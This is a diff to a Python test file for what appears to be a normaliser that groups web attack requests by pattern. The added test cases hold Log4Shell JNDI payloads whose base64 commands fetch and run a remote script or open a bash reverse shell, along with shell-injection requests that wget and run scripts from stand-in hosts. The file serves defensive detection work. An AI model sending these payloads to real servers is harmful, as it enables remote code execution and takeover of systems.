@@ -133,6 +133,10 @@ def test_each_seed_campaign_is_one_pattern_despite_values():
     assert normalise(requests[0]) != normalise(requests[4])
 
 
+JNDI = "GET /${{jndi:ldap://{}/Basic/Command/Base64/{}}} HTTP/1.1"
+JNDI_ENCODED = "GET /%24%7Bjndi%3Aldap%3A%2F%2F{}%2FBasic%2FCommand%2FBase64%2F{}%7D HTTP/1.1"
+
+
 @pytest.mark.parametrize("variants", [
     ["GET /shell?cd+/tmp;wget+http://1.2.3.4:8080/x.sh;sh+x.sh HTTP/1.1",
      "GET /shell?cd+/tmp;wget+http://203.0.113.77:41234/x.sh;sh+x.sh HTTP/1.1",
@@ -145,6 +149,21 @@ def test_each_seed_campaign_is_one_pattern_despite_values():
      "GET /download/ffffffffffffffff0000000000000000 HTTP/1.1"],
     ["GET /t/Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZmdo HTTP/1.1", "GET /t/QUJDREVGR0hJSktMTU5PUFFSU1RVVjEy HTTP/1.1"],
     ["GET /item/17 HTTP/1.1", "GET /item/90210 HTTP/1.1"],
+    # Log4Shell with a base64 command: its length (so its "=" padding) and its "+" follow the address
+    [JNDI.format("192.0.2.7:1389", "d2dldCBodHRwOi8vMS4yLjMuNDo4MC94LnNoIC1PLXxzaA=="),
+     JNDI.format("203.0.113.9:389", "d2dldCBodHRwOi8vMTAuMjAuMzAuNDA6ODA4MC94LnNoIC1PLXxzaA="),
+     JNDI.format("198.51.100.1:80", "d2dldCBodHRwOi8vMTAuMjAuMzAuNDA6ODA4MDAveC5zaCAtTy18c2g"),
+     JNDI.format("192.0.2.7:1389", "YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ=="),
+     JNDI.format("192.0.2.8:1389", "YmFzaCAtaSA+JiAvZGV2L3RjcC81LjYuNy44LzgwIDA+JjE=")],
+    # the same percent-encoded: "+" is %2B, "=" is %3D
+    [JNDI_ENCODED.format("192.0.2.7%3A1389", "Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZmdoaQ%3D%3D"),
+     JNDI_ENCODED.format("192.0.2.9%3A389", "Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZmdoaWo%3D"),
+     JNDI_ENCODED.format("192.0.2.9%3A389", "Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZmdoaWpr")],
+    [JNDI_ENCODED.format("192.0.2.7%3A1389", "YmFzaCAtaSA%2BJiAvZGV2L3RjcC8xOTIuMC4yLjcvNDQ0NCAwPiYx"),
+     JNDI_ENCODED.format("192.0.2.9%3A389", "YmFzaCAtaSA%2BJiAvZGV2L3RjcC8xOTguNTEuMTAwLjIzLzgwIDA%2BJjE%3D")],
+    # a host name that ends the URL with "}" or ";" rather than "/"
+    ["GET /${jndi:ldap://c7k2m1.dnslog.cn} HTTP/1.1", "GET /${jndi:ldap://zz9a.oast.example} HTTP/1.1"],
+    ["GET /cgi-bin/;wget+http://evil.example.net;sh+x HTTP/1.1", "GET /cgi-bin/;wget+http://b4d.example.org;sh+x HTTP/1.1"],
 ])
 def test_varying_values_collapse(variants):
     assert len({normalise(v) for v in variants}) == 1
